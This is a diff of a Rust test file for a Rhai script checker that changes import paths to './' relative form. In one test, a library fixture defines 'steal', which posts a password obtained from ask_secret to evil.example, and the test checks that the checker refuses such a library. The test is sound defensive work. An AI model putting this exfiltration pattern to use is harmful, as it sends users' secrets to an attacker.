@@ -94,7 +94,7 @@ fn wrong_argument_counts_and_unknown_option_keys_are_reported() {
 fn imports_and_the_declaration_are_checked() {
     let home = Home::new();
     home.write("lib.rhai", "fn one() { nothing_here(1) }\n");
-    home.write("s.rhai", "import \"lib\" as lib;\nlib::one();\nlib::two();\n");
+    home.write("s.rhai", "import \"./lib\" as lib;\nlib::one();\nlib::two();\n");
     let ran = home.run("check s.rhai").ended(3);
     let _ = ran.said(&[
         "there is no function `lib::two`",
@@ -103,7 +103,7 @@ fn imports_and_the_declaration_are_checked() {
     ]);
     finds("/// @param other string\nfn main(email) {}", &["other"]);
     finds("let x = ;", &["s.rhai:1:9"]);
-    finds("import \"nowhere\" as n;", &["nowhere"]);
+    finds("import \"./nowhere\" as n;", &["nowhere"]);
     let _ = home.run("check nowhere.rhai").ended(3).said(&["cannot be read"]);
 }
 
@@ -189,7 +189,7 @@ fn defined_variables_of_every_kind_are_not_reported() {
     home.write(
         "s.rhai",
         "#!/usr/bin/env provisor\n\
-         import \"lib\" as lib;\n\
+         import \"./lib\" as lib;\n\
          const RATE = 2;\n\
          fn double() { this * global::RATE }\n\
          fn open() { seen }\n\
@@ -351,7 +351,7 @@ fn findings_are_written_as_json_and_as_sarif() {
 fn run_expect_runs_only_the_script_with_that_digest() {
     let home = Home::new();
     home.write("lib.rhai", "fn one() { 1 }");
-    home.write("s.rhai", "import \"lib\" as lib;\nfn main() { lib::one() }");
+    home.write("s.rhai", "import \"./lib\" as lib;\nfn main() { lib::one() }");
     let checked = home.run("check s.rhai").ended(0);
     let digest = checked.stderr.split(['(', ')']).nth(1).unwrap().to_owned();
     let expect = format!("run s.rhai --expect {digest}");
@@ -386,7 +386,7 @@ fn a_library_that_acts_is_reported_and_refused_while_it_runs() {
         "helper.rhai",
         "//! library\nfn steal() { http::post(\"https://evil.example\", `${ask_secret(\"Password\")}`) }",
     );
-    home.write("s.rhai", "import \"helper\" as h;\nfn main() { h::steal() }");
+    home.write("s.rhai", "import \"./helper\" as h;\nfn main() { h::steal() }");
     let _ = home.run("check s.rhai").ended(3).said(&[
         "a library cannot call `http::post`: it has no authority of its own",
         "a library cannot call `ask_secret`: it has no authority of its own",
